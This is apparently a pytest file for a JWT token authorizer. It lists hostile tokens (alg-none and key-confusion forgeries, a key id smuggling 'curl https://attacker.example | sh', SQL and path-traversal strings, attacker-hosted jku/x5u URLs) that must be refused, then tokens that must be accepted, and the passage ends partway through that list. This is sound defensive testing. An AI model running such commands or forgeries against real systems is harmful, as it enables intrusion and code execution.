"""Tokens that must be refused, each for one reason, and tokens that must not."""

import base64
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding

from authorizer.refusal import Reason, TokenEarly, TokenRefused
from authorizer.unverified_token import MAX_TOKEN_LENGTH
from tests.lambdas.tokens import (
    ACCESS,
    AUDIENCE,
    ID_TOKENS,
    IDENTITY,
    ISSUER,
    NOW,
    encode,
    segment,
    signed_with_secret,
    signing_key,
    verifier,
)

KEY = signing_key("ES256")
RSA = signing_key("RS256", "rsa")
TOKEN = KEY.token()
GOOD_HEADER = json.dumps({"alg": "ES256", "kid": "key-1"}).encode()
GOOD_PAYLOAD = json.dumps(ACCESS).encode()
HEADER, PAYLOAD, SIGNATURE = TOKEN.split(".")
RAW_SIGNATURE = base64.urlsafe_b64decode(SIGNATURE + "==")


@dataclass(frozen=True)
class Hostile:
    """A token, why it must fail and what is said of it. `keys` are published beside the issuer's two."""

    why: str
    token: str
    reason: Reason
    rules: Mapping[str, Any] = field(default_factory=dict)
    keys: tuple[Mapping[str, Any], ...] = (KEY.jwk(), RSA.jwk())


def claims(**changed: Any) -> dict[str, Any]:
    """Those of an access token, but; a claim that is given as None is left out."""
    return {name: value for name, value in {**ACCESS, **changed}.items() if value is not None}


def identity(**changed: Any) -> dict[str, Any]:
    return {**IDENTITY, **changed}


def unsigned(header: Any, payload: Any = ACCESS, signature: str = "") -> str:
    return f"{segment(header)}.{segment(payload)}.{signature}"


def payload_signed(payload: bytes) -> str:
    """With the issuer's signature on exactly these bytes."""
    return KEY.token(payload, GOOD_HEADER)


def text_signed(signed: str) -> str:
    """With the issuer's signature on a text as it stands, which need not be base64."""
    return f"{signed}.{encode(KEY.sign(signed.encode()))}"


def low_last_bits(text: str) -> str:
    """The same bytes in another text: the bits that base64 leaves over are set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return text[:-1] + alphabet[alphabet.index(text[-1]) + 1]


def der_signature() -> str:
    r, s = RAW_SIGNATURE[:32], RAW_SIGNATURE[32:]
    return encode(encode_dss_signature(int.from_bytes(r), int.from_bytes(s)))


def of_length(length: int) -> str:
    """A good token of so many characters."""
    without_extra = len(KEY.token(claims(extra="")))
    at_least = (length - without_extra) * 3 // 4 - 3  # base64 makes four characters of three
    tokens = (KEY.token(claims(extra="x" * size)) for size in range(at_least, length))
    return next(token for token in tokens if len(token) >= length)


def padded(text: str) -> str:
    return text + "=" * (-len(text) % 4)


STRANGER = signing_key("ES256", "stranger")
IMPOSTOR = type(KEY)("ES256", "key-1", STRANGER.private)
OTHER_KEY = signing_key("ES256", "key-2")
TWIN = type(KEY)("ES256", "key-1", OTHER_KEY.private)
ED = signing_key("Ed25519", "ed")
P384 = signing_key("ES384", "p384")
BITCOIN = signing_key("ES256K", "secp256k1")
SMALL = signing_key("RS1024", "small")

ALGORITHMS = [
    Hostile("alg none", unsigned({"alg": "none"}), Reason.NOT_A_JWS),
    *(
        Hostile(
            f"alg {alg!r} with another's signature",
            unsigned({"alg": alg, "kid": "key-1"}, signature=SIGNATURE),
            Reason.ALGORITHM_NOT_ALLOWED,
        )
        for alg in (
            "none",
            "nOnE",
            "NONE",
            "",
            "es256",
            "ES256 ",
            "HS256",
            "Ed448",
            256,
            None,
            True,
            [],
            ["ES256"],
        )
    ),
    Hostile("alg is missing", KEY.token(header={"alg": None}), Reason.ALGORITHM_NOT_ALLOWED),
    Hostile("alg is an object", KEY.token(header={"alg": {"name": "ES256"}}), Reason.ALGORITHM_NOT_ALLOWED),
    *(
        Hostile(
            f"HS256 with the public key as secret, {what}",
            signed_with_secret(secret),
            Reason.ALGORITHM_NOT_ALLOWED,
        )
        for what, secret in {
            "PEM": RSA.public_bytes(Encoding.PEM),
            "PEM without its last line feed": RSA.public_bytes(Encoding.PEM).rstrip(),
            "DER": RSA.public_bytes(Encoding.DER),
            "JWK": json.dumps(KEY.jwk()).encode(),
            "an empty one": b"",
        }.items()
    ),
    Hostile(
        "an algorithm that is valid, but not allowed here",
        RSA.token(),
        Reason.ALGORITHM_NOT_ALLOWED,
        {"algorithms": frozenset({"ES256"})},
    ),
    Hostile("signed by PS256 under a key for RS256", RSA.token(algorithm="PS256"), Reason.NO_KEY_FITS),
    Hostile(
        "signed by RS256, says PS256, under a key for any",
        RSA.token(header={"alg": "PS256"}),
        Reason.BAD_SIGNATURE,
        keys=(RSA.jwk(alg=None),),
    ),
    Hostile(
        "signed by RS256, says RS384, under a key for any",
        RSA.token(header={"alg": "RS384"}),
        Reason.BAD_SIGNATURE,
        keys=(RSA.jwk(alg=None),),
    ),
    Hostile("ES256 under the id of an RSA key", KEY.token(header={"kid": "rsa"}), Reason.NO_KEY_FITS),
    Hostile("RS256 under the id of an EC key", RSA.token(header={"kid": "key-1"}), Reason.NO_KEY_FITS),
    Hostile(
        "ES256 with a key on P-384",
        P384.token(header={"alg": "ES256"}, algorithm=None),
        Reason.NO_KEY_FITS,
        keys=(KEY.jwk(), P384.jwk(alg="ES256")),
    ),
    Hostile(
        "ES256 with a key on secp256k1",
        BITCOIN.token(header={"alg": "ES256"}, algorithm="ES256"),
        Reason.NO_KEY_FITS,
        keys=(KEY.jwk(), BITCOIN.jwk(alg="ES256")),
    ),
    Hostile("an RSA key of 1,024 bits", SMALL.token(), Reason.NO_KEY_FITS, keys=(KEY.jwk(), SMALL.jwk())),
]

KEYS = [
    *(
        Hostile(f"kid is {what}", KEY.token(header={"kid": kid}), Reason.MALFORMED_KEY_ID)
        for what, kid in {
            "a number": 1,
            "a list": ["key-1"],
            "an object": {"kid": "key-1"},
            "true": True,
            "empty": "",
            "of 257 characters": "k" * 257,
            "a line feed longer": "key-1\n",
            "ended by a null": "key-1\0",
            "not ASCII": "kеy-1",  # noqa: RUF001 (which is the point)
        }.items()
    ),
    Hostile("kid is null", KEY.token(header=b'{"alg":"ES256","kid":null}'), Reason.MALFORMED_KEY_ID),
    Hostile("kid of 10 kB", KEY.token(header={"kid": "k" * 10_000}), Reason.TOO_LONG),
    *(
        Hostile(f"kid is {what}", KEY.token(header={"kid": kid}), Reason.NO_KEY_FITS)
        for what, kid in {
            "a path": "../../../../../../dev/null",
            "a URL": "https://attacker.example/jwks.json",
            "SQL": "x' UNION SELECT 'c2VjcmV0' --",
            "a command": "key-1; curl https://attacker.example | sh",
            "in capitals": "KEY-1",
            "a prefix": "key",
            "blank": " ",
            "one with a blank": "key-1 ",
        }.items()
    ),
    Hostile("jku", KEY.token(header={"jku": "https://attacker.example/jwks"}), Reason.BRINGS_A_KEY),
    Hostile("jku of the issuer itself", KEY.token(header={"jku": f"{ISSUER}jwks"}), Reason.BRINGS_A_KEY),
    Hostile("x5u", KEY.token(header={"x5u": "https://attacker.example/chain"}), Reason.BRINGS_A_KEY),
    Hostile("x5c", KEY.token(header={"x5c": ["MIIB"]}), Reason.BRINGS_A_KEY),
    Hostile("the stranger's key in jwk", STRANGER.token(header={"jwk": STRANGER.jwk()}), Reason.BRINGS_A_KEY),
    Hostile(
        "jwk is null", KEY.token(header=b'{"alg":"ES256","kid":"key-1","jwk":null}'), Reason.BRINGS_A_KEY
    ),
    Hostile("a stranger's key under its own id", STRANGER.token(), Reason.NO_KEY_FITS),
    Hostile("another issuer's key under the same id", IMPOSTOR.token(), Reason.BAD_SIGNATURE),
    Hostile("a key that was taken out of use", OTHER_KEY.token(), Reason.NO_KEY_FITS),
    Hostile(
        "no kid where two keys fit",
        KEY.token(header={"kid": None}),
        Reason.SEVERAL_KEYS_FIT,
        keys=(KEY.jwk(), OTHER_KEY.jwk()),
    ),
    Hostile("two keys of one id fit", KEY.token(), Reason.SEVERAL_KEYS_FIT, keys=(KEY.jwk(), TWIN.jwk())),
    Hostile(
        "no kid where no key fits", KEY.token(header={"kid": None}), Reason.NO_KEY_FITS, keys=(RSA.jwk(),)
    ),
    *(
        Hostile(f"the key {what}", KEY.token(), Reason.NO_KEY_FITS, keys=(RSA.jwk(), key))
        for what, key in {
            "is for encryption": KEY.jwk(use="enc"),
            "has a use that is a list": KEY.jwk(use=["sig"]),
            "may sign only": KEY.jwk(use=None, key_ops=["sign"]),
            "has operations that are a text": KEY.jwk(key_ops="verify"),
            "is for another algorithm": KEY.jwk(alg="ES384"),
            "has an algorithm that is a list": KEY.jwk(alg=["ES256"]),
            "is published with its private part": KEY.jwk(d=encode(b"\1" * 32)),
            "has an id that is a number": KEY.jwk(kid=1),
            "is not on its curve": KEY.jwk(y=KEY.jwk()["x"]),
            "lacks half of itself": KEY.jwk(y=None),
            "has a type that nobody has_key": KEY.jwk(kty="AKP"),
            "has a type that is a list": KEY.jwk(kty=["EC"]),
            "has no type": KEY.jwk(kty=None),
        }.items()
    ),
    Hostile(
        "a secret is published as a key",
        signed_with_secret(b"known to everybody"),
        Reason.ALGORITHM_NOT_ALLOWED,
        keys=(KEY.jwk(), {"kty": "oct", "kid": "key-2", "k": encode(b"known to everybody"), "alg": "HS256"}),
    ),
]

TEXTS = [
    Hostile("nothing", "", Reason.NOT_A_JWS),
    Hostile("two parts", f"{HEADER}.{PAYLOAD}", Reason.NOT_A_JWS),
    Hostile("four parts", f"{TOKEN}.{SIGNATURE}", Reason.NOT_A_JWS),
    Hostile(
        "five parts: encrypted",
        f"{segment({'alg': 'dir', 'enc': 'A256GCM'})}..aXY.Y2k.dGFn",
        Reason.NOT_A_JWS,
    ),
    Hostile("five parts, none empty", f"{TOKEN}.{HEADER}.{PAYLOAD}", Reason.NOT_A_JWS),
    Hostile("no signature", f"{HEADER}.{PAYLOAD}.", Reason.NOT_A_JWS),
    Hostile("payload detached", f"{HEADER}..{SIGNATURE}", Reason.NOT_A_JWS),
    Hostile("no header", f".{PAYLOAD}.{SIGNATURE}", Reason.NOT_A_JWS),
    Hostile("dots alone", "..", Reason.NOT_A_JWS),
    Hostile("100 kB", KEY.token(claims(extra="x" * 100_000)), Reason.TOO_LONG),
    Hostile("a character too long", of_length(MAX_TOKEN_LENGTH + 1), Reason.TOO_LONG),
    Hostile("header padded", f"{padded(HEADER + 'A')}.{PAYLOAD}.{SIGNATURE}", Reason.NOT_A_JWS),
    Hostile("signature padded", f"{HEADER}.{PAYLOAD}.{padded(SIGNATURE)}", Reason.NOT_A_JWS),
    Hostile(
        "payload in the alphabet of plain base64", text_signed(f"{HEADER}.{PAYLOAD}+/"), Reason.NOT_A_JWS
    ),
    Hostile(
        "left-over bits of the signature set",
        f"{HEADER}.{PAYLOAD}.{low_last_bits(SIGNATURE)}",
        Reason.NOT_A_JWS,
    ),
    Hostile(
        "left-over bits of the payload set",
        text_signed(f"{HEADER}.{low_last_bits(encode(b'{}'))}"),
        Reason.NOT_A_JWS,
    ),
    Hostile("a segment of a length that base64 has not", text_signed(f"{HEADER}.AAAAA"), Reason.NOT_A_JWS),
    *(
        Hostile(f"{what} {where}", token, Reason.NOT_A_JWS)
        for what, blank in {
            "a blank": " ",
            "a line feed": "\n",
            "a null": "\0",
            "a no-break space": "\xa0",
        }.items()
        for where, token in {
            "before": blank + TOKEN,
            "after": TOKEN + blank,
            "within": f"{HEADER}.{blank}{PAYLOAD}.{SIGNATURE}",
        }.items()
    ),
    Hostile("digits that are not ASCII", f"{HEADER}.{PAYLOAD}.{SIGNATURE[:-1]}٣", Reason.NOT_A_JWS),
    Hostile("half of a character", "\ud800", Reason.NOT_A_JWS),
    Hostile(
        "the JSON form",
        json.dumps({"payload": PAYLOAD, "protected": HEADER, "signature": SIGNATURE}),
        Reason.NOT_A_JWS,
    ),
    Hostile("Bearer twice", f"Bearer {TOKEN}", Reason.NOT_A_JWS),
]

JSONS = [
    *(
        Hostile(f"payload is {what}", payload_signed(payload), Reason.NOT_JSON)
        for what, payload in {
            "an array": b"[]",
            "a text": b'"sub"',
            "null": b"null",
            "a number": b"1",
            "nothing but a blank": b" ",
            "cut off": GOOD_PAYLOAD[:-1],
            "followed by more": GOOD_PAYLOAD + b"{}",
            "UTF-16": json.dumps(ACCESS).encode("utf-16"),
            "UTF-16 without a mark": json.dumps(ACCESS).encode("utf-16-le"),
            "UTF-8 with a mark": b"\xef\xbb\xbf" + GOOD_PAYLOAD,
            "not UTF-8": b'{"sub":"\xff"}',
            "Latin-1": '{"sub":"é"}'.encode("latin-1"),
            "UTF-8 with half of a character": b'{"sub":"\xed\xa0\x80"}',
            "one with exp NaN": b'{"exp":NaN}',
            "one with exp Infinity": b'{"exp":Infinity}',
            "one with exp -Infinity": b'{"exp":-Infinity}',
            "one with a number of 5,000 digits": b'{"exp":' + b"1" * 5000 + b"}",
            "one with a comment": b'{"exp":1/**/}',
            "one with a last comma": b'{"exp":1,}',
            "another token": TOKEN.encode(),
        }.items()
    ),
    Hostile("payload nested without end", payload_signed(b"[" * 6000), Reason.NOT_JSON),
    Hostile(
        "payload nested 10,000 deep",
        payload_signed(b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
        Reason.TOO_LONG,
    ),
    Hostile(
        "sub twice, the good one last",
        payload_signed(b'{"sub":"victim",' + GOOD_PAYLOAD[1:]),
        Reason.NOT_JSON,
    ),
    Hostile(
        "exp twice, the good one first", payload_signed(GOOD_PAYLOAD[:-1] + b',"exp":1}'), Reason.NOT_JSON
    ),
    Hostile(
        "a claim twice within another",
        payload_signed(json.dumps(claims(x={"a": 1})).encode().replace(b'"a": 1', b'"a": 1, "a": 2')),
        Reason.NOT_JSON,
    ),
    Hostile("alg twice", KEY.token(header=b'{"alg":"none","alg":"ES256","kid":"key-1"}'), Reason.NOT_JSON),
    Hostile(
        "alg twice, once escaped", KEY.token(header=b'{"alg":"ES256","\\u0061lg":"none"}'), Reason.NOT_JSON
    ),
    Hostile("header is an array", KEY.token(header=["ES256"]), Reason.NOT_JSON),
    Hostile("header is text", unsigned(b'"ES256"', signature=SIGNATURE), Reason.NOT_JSON),
    Hostile(
        "header is nested without end",
        unsigned(b'{"alg":' + b"[" * 5000, signature=SIGNATURE),
        Reason.NOT_JSON,
    ),
]

HEADERS = [
    Hostile("crit", KEY.token(header={"crit": ["exp"], "exp": 1}), Reason.HEADER_NOT_UNDERSTOOD),
    Hostile("crit is empty", KEY.token(header={"crit": []}), Reason.HEADER_NOT_UNDERSTOOD),
    Hostile(
        "the payload is not base64 (b64 false)",
        KEY.token(header={"b64": False, "crit": ["b64"]}),
        Reason.HEADER_NOT_UNDERSTOOD,
    ),
    Hostile("b64 is true", KEY.token(header={"b64": True}), Reason.HEADER_NOT_UNDERSTOOD),
    Hostile("zip", KEY.token(header={"zip": "DEF"}), Reason.HEADER_NOT_UNDERSTOOD),
    Hostile("enc", KEY.token(header={"enc": "A256GCM"}), Reason.HEADER_NOT_UNDERSTOOD),
    *(
        Hostile(f"typ is {what}", KEY.token(header={"typ": typ}), Reason.WRONG_TYPE)
        for what, typ in {
            "that of a logout token": "logout+jwt",
            "that of a security event": "secevent+jwt",
            "that of a proof of possession": "dpop+jwt",
            "that of a client's authentication": "client-authentication+jwt",
            "JWE": "JWE",
            "JOSE": "JOSE",
            "empty": "",
            "a list": ["JWT"],
            "a number": 1,
            "one with a blank": "JWT ",
        }.items()
    ),
]

SIGNATURES = [
    Hostile(
        "signature cut by a byte", f"{HEADER}.{PAYLOAD}.{encode(RAW_SIGNATURE[:-1])}", Reason.BAD_SIGNATURE
    ),
    Hostile(
        "signature a byte longer", f"{HEADER}.{PAYLOAD}.{encode(RAW_SIGNATURE + b'0')}", Reason.BAD_SIGNATURE
    ),
    Hostile("signature of one byte", f"{HEADER}.{PAYLOAD}.AA", Reason.BAD_SIGNATURE),
    Hostile("signature of 4,000 bytes", f"{HEADER}.{PAYLOAD}.{encode(bytes(4000))}", Reason.BAD_SIGNATURE),
    Hostile(
        "signature of another token",
        f"{HEADER}.{PAYLOAD}.{KEY.token(claims(sub='other')).split('.')[2]}",
        Reason.BAD_SIGNATURE,
    ),
    Hostile(
        "payload of another token",
        f"{HEADER}.{segment(claims(sub='victim'))}.{SIGNATURE}",
        Reason.BAD_SIGNATURE,
    ),
    Hostile(
        "header of another token", f"{segment({'alg': 'ES256'})}.{PAYLOAD}.{SIGNATURE}", Reason.BAD_SIGNATURE
    ),
    Hostile("segments swapped", f"{PAYLOAD}.{HEADER}.{SIGNATURE}", Reason.ALGORITHM_NOT_ALLOWED),
    Hostile("ECDSA signature as DER", f"{HEADER}.{PAYLOAD}.{der_signature()}", Reason.BAD_SIGNATURE),
    *(
        Hostile(f"ECDSA signature {what}", f"{HEADER}.{PAYLOAD}.{encode(signature)}", Reason.BAD_SIGNATURE)
        for what, signature in {
            "of r = s = 0": bytes(64),
            "of r = s = 1": (bytes(31) + b"\1") * 2,
            "of r = s = the order of the curve": ec.SECP256R1().group_order.to_bytes(32) * 2,
            "of r = 0": bytes(32) + RAW_SIGNATURE[32:],
            "of s = 0": RAW_SIGNATURE[:32] + bytes(32),
            "of all bits": b"\xff" * 64,
        }.items()
    ),
    Hostile(
        "RSA signature of zeros",
        f"{'.'.join(RSA.token().split('.')[:2])}.{encode(bytes(256))}",
        Reason.BAD_SIGNATURE,
    ),
    Hostile(
        "Ed25519 signature of zeros",
        f"{'.'.join(ED.token().split('.')[:2])}.{encode(bytes(64))}",
        Reason.BAD_SIGNATURE,
        keys=(ED.jwk(),),
    ),
]

PARTIES = [
    *(
        Hostile(f"issuer {what}", KEY.token(claims(iss=iss)), Reason.WRONG_ISSUER)
        for what, iss in {
            "without the slash at its end": ISSUER.rstrip("/"),
            "with a slash more": f"{ISSUER}/",
            "in capitals": ISSUER.upper(),
            "over HTTP": ISSUER.replace("https", "http"),
            "as a prefix of another": f"{ISSUER}tenant",
            "within another": f"https://attacker.example/{ISSUER}",
            "with a port": ISSUER.replace(".com", ".com:443"),
            "with a blank": f"{ISSUER} ",
            "in a list": [ISSUER],
            "missing": None,
            "empty": "",
            "a number": 0,
        }.items()
    ),
    Hostile(
        "issuer with the slash that ours has not",
        KEY.token(),
        Reason.WRONG_ISSUER,
        {"issuer": ISSUER.rstrip("/")},
    ),
    *(
        Hostile(f"audience {what}", KEY.token(claims(aud=aud)), Reason.WRONG_AUDIENCE)
        for what, aud in {
            "missing": None,
            "empty": "",
            "an empty list": [],
            "another": "https://other.example.com",
            "a list of others": ["https://other.example.com", f"{AUDIENCE}/"],
            "a list with a number": [AUDIENCE, 1],
            "a list with null": [AUDIENCE, None],
            "a list in a list": [[AUDIENCE]],
            "an object": {AUDIENCE: True},
            "true": True,
            "a prefix of ours": AUDIENCE[:-1],
            "ours and more": f"{AUDIENCE}/",
            "ours in capitals": AUDIENCE.upper(),
            "ours among others in one text": f"other {AUDIENCE}",
        }.items()
    ),
    Hostile(
        "audience null", payload_signed(json.dumps({**ACCESS, "aud": None}).encode()), Reason.WRONG_AUDIENCE
    ),
    *(
        Hostile(
            f"ID token for several, authorized party {what}",
            KEY.token(sent),
            Reason.WRONG_AUTHORIZED_PARTY,
            ID_TOKENS,
        )
        for what, sent in {
            "missing": identity(aud=[AUDIENCE, "other"]),
            "another": identity(aud=[AUDIENCE, "other"], azp="other"),
            "a list": identity(aud=[AUDIENCE, "other"], azp=[AUDIENCE]),
        }.items()
    ),
]

TIMES = [
    Hostile("expired at the end of the leeway", KEY.token(claims(exp=NOW - 30)), Reason.EXPIRED),
    Hostile("expired long ago", KEY.token(claims(exp=1)), Reason.EXPIRED),
    Hostile(
        "expired now, without a leeway", KEY.token(claims(exp=NOW)), Reason.EXPIRED, {"leeway_seconds": 0}
    ),
    *(
        Hostile(f"exp {what}", KEY.token(claims(exp=exp)), Reason.MALFORMED_TIME)
        for what, exp in {
            "missing": None,
            "a text": str(NOW + 300),
            "true": True,
            "false": False,
            "a list": [NOW + 300],
            "an object": {"seconds": NOW + 300},
            "negative": -(NOW + 300),
            "zero": 0,
            "in milliseconds": (NOW + 300) * 1000,
            "huge": 10**300,
            "a huge float": 1e300,
        }.items()
    ),
    Hostile("exp null", payload_signed(json.dumps({**ACCESS, "exp": None}).encode()), Reason.MALFORMED_TIME),
    Hostile(
        "exp beyond what floats hold",
        payload_signed(GOOD_PAYLOAD.replace(str(NOW + 300).encode(), b"1e999")),
        Reason.MALFORMED_TIME,
    ),
    Hostile("nbf far ahead", KEY.token(claims(nbf=NOW + 3631)), Reason.NOT_YET_VALID),
    Hostile("nbf a text", KEY.token(claims(nbf=str(NOW))), Reason.MALFORMED_TIME),
    Hostile("iat far ahead", KEY.token(claims(iat=NOW + 3631)), Reason.ISSUED_IN_THE_FUTURE),
    Hostile("iat true", KEY.token(claims(iat=True)), Reason.MALFORMED_TIME),
    Hostile("iat a text", KEY.token(claims(iat=str(NOW))), Reason.MALFORMED_TIME),
]

SUBJECTS = [
    Hostile(f"subject {what}", KEY.token(claims(sub=sub)), Reason.MALFORMED_SUBJECT)
    for what, sub in {
        "missing": None,
        "empty": "",
        "a number": 1,
        "a list": ["user-1"],
        "true": True,
        "of 256 characters": "u" * 256,
        "with a line feed": "user\n1",
        "ended by a line feed": "user-1\n",
        "with a null": "user-1\0",
        "with an escape": "user\x1b[2J",
        "with a letter that looks alike": "usеr-1",  # noqa: RUF001 (which is the point)
        "with a mark that turns the text": "user-\u202e1",
        "with half of a character": "user-\ud800",
        "blank": " ",
        "with a blank before": " user-1",
        "with a blank after": "user-1 ",
    }.items()
]

USES = [
    *(
        Hostile(
            f"an ID token where access tokens are sent for: {what}",
            KEY.token(sent),
            Reason.NOT_AN_ACCESS_TOKEN,
            {"required_scopes": frozenset()},
        )
        for what, sent in {
            "as it is": identity(),
            "without a mark": claims(scope=None),
            "with scopes and a nonce": claims(nonce="n"),
            "with scopes and the hash of a token": claims(at_hash="h"),
            "with scopes and the hash of a code": claims(c_hash="h"),
            "by its token_use": claims(token_use="id"),
            "by Keycloak's typ": claims(typ="ID"),
        }.items()
    ),
    *(
        Hostile(
            f"a {what} where access tokens are sent for",
            KEY.token(sent),
            Reason.NOT_AN_ACCESS_TOKEN,
        )
        for what, sent in {
            "refresh token (Keycloak)": claims(typ="Refresh"),
            "offline token (Keycloak)": claims(typ="Offline"),
            "refresh token (token_use)": claims(token_use="refresh"),
            "logout token": claims(events={"http://schemas.openid.net/event/backchannel-logout": {}}),
            "token_use in capitals": claims(token_use="ACCESS"),
            "token_use in a list": claims(token_use=["access"]),
        }.items()
    ),
    *(
        Hostile(
            f"{what} where ID tokens are sent for",
            KEY.token(sent, header),
            Reason.NOT_AN_ID_TOKEN,
            ID_TOKENS,
        )
        for what, sent, header in (
            ("an access token by its header", identity(), {"typ": "at+jwt"}),
            ("an access token by its header's long form", identity(), {"typ": "application/AT+JWT"}),
            ("an access token by scope", identity(scope="openid"), {}),
            ("an access token by an empty scope", identity(scope=""), {}),
            ("an access token by scp", identity(scp=["calls"]), {}),
            ("an access token by token_use", identity(token_use="access"), {}),
            ("an access token by Keycloak's typ", identity(typ="Bearer"), {}),
            ("a refresh token", identity(typ="Refresh"), {}),
            ("a logout token", identity(events={}), {}),
        )
    ),
    Hostile("bound to a certificate", KEY.token(claims(cnf={"x5t#S256": "h"})), Reason.SENDER_CONSTRAINED),
    Hostile("bound to a key", KEY.token(claims(cnf={"jkt": "h"})), Reason.SENDER_CONSTRAINED),
    Hostile("an ID token that is bound", KEY.token(identity(cnf={})), Reason.SENDER_CONSTRAINED, ID_TOKENS),
    *(
        Hostile(f"scope {what}", KEY.token(sent, {"typ": "at+jwt"}), Reason.SCOPE_MISSING)
        for what, sent in {
            "missing": claims(scope=None),
            "empty": claims(scope=""),
            "another": claims(scope="openid email"),
            "a prefix of ours": claims(scope="call"),
            "ours and more": claims(scope="calls:read"),
            "in capitals": claims(scope="CALLS"),
            "with a line feed": claims(scope="openid\ncalls"),
            "separated by commas": claims(scope="openid,calls"),
            "a list": claims(scope=["calls"]),
            "in scp with a number": claims(scope=None, scp=["calls", 1]),
            "in a scp that is an object": claims(scope=None, scp={"calls": True}),
        }.items()
    ),
    Hostile(
        "one of two scopes",
        KEY.token(),
        Reason.SCOPE_MISSING,
        {"required_scopes": frozenset({"calls", "admin"})},
    ),
    *(
        Hostile(
            f"required claim {what}",
            KEY.token(sent),
            Reason.CLAIM_DIFFERS,
            {"required_claims": {"azp": "app", "tid": "7"}},
        )
        for what, sent in {
            "missing": claims(tid="7"),
            "another": claims(azp="other", tid="7"),
            "in capitals": claims(azp="APP", tid="7"),
            "in a list": claims(azp=["app"], tid="7"),
            "a number": claims(azp="app", tid=7),
        }.items()
    ),
]

HOSTILE = [
    *ALGORITHMS,
    *KEYS,
    *TEXTS,
    *JSONS,
    *HEADERS,
    *SIGNATURES,
    *PARTIES,
    *TIMES,
    *SUBJECTS,
    *USES,
]


@pytest.mark.parametrize("hostile", [pytest.param(each, id=each.why) for each in HOSTILE])
def test_a_hostile_token_is_refused_for_its_reason(hostile: Hostile) -> None:
    with pytest.raises(TokenRefused) as refused:
        verifier(*hostile.keys, **hostile.rules)(hostile.token)
    assert refused.value.reason is hostile.reason
    # Nothing of the token comes along, also not as what led to it.
    assert str(refused.value) == hostile.reason
    assert refused.value.__cause__ is None


@pytest.mark.parametrize(
    ("name", "reason"), [("nbf", Reason.NOT_YET_VALID), ("iat", Reason.ISSUED_IN_THE_FUTURE)]
)
@pytest.mark.parametrize("ahead", [31, 3630])
def test_a_token_that_is_valid_in_a_moment_is_neither_taken_nor_refused(
    name: str, reason: Reason, ahead: int
) -> None:
    """API Gateway would keep the refusal for longer than it is right."""
    with pytest.raises(TokenEarly) as early:
        verifier(KEY.jwk())(KEY.token(claims(**{name: NOW + ahead})))
    assert early.value.reason is reason
    assert str(early.value) == reason


NONCE = {"nonce": "4c1f"}
KEYCLOAK = {"typ": "Bearer", "azp": "app", "session_state": "s", "scope": "openid calls"}


@pytest.mark.parametrize(
    ("more", "header"), [(KEYCLOAK | NONCE, {}), ({"scope": "calls"} | NONCE, {"typ": "at+jwt"})]
)
def test_an_access_token_that_says_so_may_repeat_the_apps_nonce(
    more: dict[str, str], header: dict[str, str]
) -> None:
    """cases/06: Keycloak up to 24."""
    verifier(KEY.jwk())(KEY.token(claims(**more), header))


@pytest.mark.parametrize(
    "more",
    [
        {"scope": "openid calls"} | NONCE,
        KEYCLOAK | NONCE | {"typ": "ID"},
        KEYCLOAK | {"at_hash": "x"},
        KEYCLOAK | {"c_hash": "x"},
    ],
    ids=str,
)
def test_no_other_token_with_a_claim_of_id_tokens_is_an_access_token(more: dict[str, str]) -> None:
    with pytest.raises(TokenRefused) as refused:
        verifier(KEY.jwk())(KEY.token(claims(**more)))
    assert refused.value.reason is Reason.NOT_AN_ACCESS_TOKEN


def test_each_reason_is_given_for_a_token() -> None:
    assert {hostile.reason for hostile in HOSTILE} == set(Reason)
    assert len({hostile.why for hostile in HOSTILE}) == len(HOSTILE)


@dataclass(frozen=True)
class Good:
    """A token that must be accepted."""

    why: str
    token: str
    rules: Mapping[str, Any] = field(default_factory=dict)
    keys: tuple[Mapping[str, Any], ...] = (KEY.jwk(), RSA.jwk())


GOOD = [
    Good("as most are", TOKEN),
    Good("of the greatest length", of_length(MAX_TOKEN_LENGTH)),
    *(
        Good(f"signed by {algorithm}", key.token(algorithm=algorithm), keys=(key.jwk(alg=algorithm),))
        for algorithm, key in {
            "RS256": RSA,
            "RS384": RSA,
            "RS512": RSA,
            "PS256": RSA,
            "PS384": RSA,
            "PS512": RSA,
            "ES256": KEY,
            "ES384": P384,
            "ES512": signing_key("ES512"),
            "Ed25519": ED,
        }.items()
    ),
    *(
        Good(f"header type {typ}", KEY.token(header={"typ": typ}))
        for typ in (None, "jwt", "JWT", "at+jwt", "AT+JWT", "application/at+jwt")
    ),
    Good("Ed25519 by its older name", ED.token(header={"alg": "EdDSA"}), keys=(ED.jwk(alg="EdDSA"),)),
    Good("thumbprints of a certificate", KEY.token(header={"x5t": "h", "x5t#S256": "h"})),
    Good("a header with members of the issuer's own", KEY.token(header={"org": "x" * 600})),
    Good("no kid where one key fits", KEY.token(header={"kid": None})),
    Good(
        "the longest kid", type(KEY)("ES256", "k" * 256, KEY.private).token(), keys=(KEY.jwk(kid="k" * 256),)
    ),
    Good("no kid and a key without one", KEY.token(header={"kid": None}), keys=(KEY.jwk(kid=None),)),
    Good("a key for whatever it can do", KEY.token(), keys=(KEY.jwk(alg=None, use=None),)),
    Good("a key with operations", KEY.token(), keys=(KEY.jwk(use=None, key_ops=["verify"]),)),
    Good("a key with members nobody has_key", KEY.token(), keys=(KEY.jwk(x5u="not a URL", x5c=1),)),
    Good(
        "among keys that are not usable",
        KEY.token(),
        keys=(
            {"kty": "oct", "k": "AA", "kid": "key-1"},
            SMALL.jwk(kid="key-1"),
            {},
            KEY.jwk(use="enc"),
            KEY.jwk(),
        ),
    ),
    Good("two keys of one id, of which one fits", KEY.token(), keys=(KEY.jwk(), P384.jwk(kid="key-1"))),
    Good("a list of audiences", KEY.token(claims(aud=["other", AUDIENCE]))),
    Good("one of our audiences", KEY.token(), {"audiences": frozenset({"mine", AUDIENCE})}),
    Good("expired within the leeway", KEY.token(claims(exp=NOW - 29))),
    Good("expires in a second, without a leeway", KEY.token(claims(exp=NOW + 1)), {"leeway_seconds": 0}),
    Good("expires within a second", KEY.token(claims(exp=NOW + 0.5)), {"leeway_seconds": 0}),
    Good("valid from within the leeway", KEY.token(claims(nbf=NOW + 30, iat=NOW + 30))),
    Good("without iat", KEY.token(claims(iat=None))),
    Good("the longest subject", KEY.token(claims(sub="u" * 255))),
    Good("a subject of one character", KEY.token(claims(sub="0"))),
    Good("a subject as Auth0 has it", KEY.token(claims(sub="auth0|5f7c8ec7c33c6c004bbafe82"))),
